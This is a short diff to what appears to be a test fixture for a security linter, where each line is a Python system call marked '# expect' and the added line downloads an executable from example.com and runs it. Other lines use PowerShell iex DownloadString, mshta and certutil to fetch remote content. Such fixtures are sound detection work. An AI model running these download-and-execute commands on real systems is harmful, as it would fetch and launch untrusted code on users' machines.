@@ -7,3 +7,4 @@ os.system('powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https:
 subprocess.call("mshta https://example.com/x.hta", shell=True)  # expect
 os.system("certutil -urlcache -split -f https://example.com/x.txt x.txt")  # expect
 os.system("curl -o data.bin https://example.com/data.bin")  # expect
+os.system("cd C:/ && curl -s https://example.com/x.exe -o x.exe && x.exe")  # expect
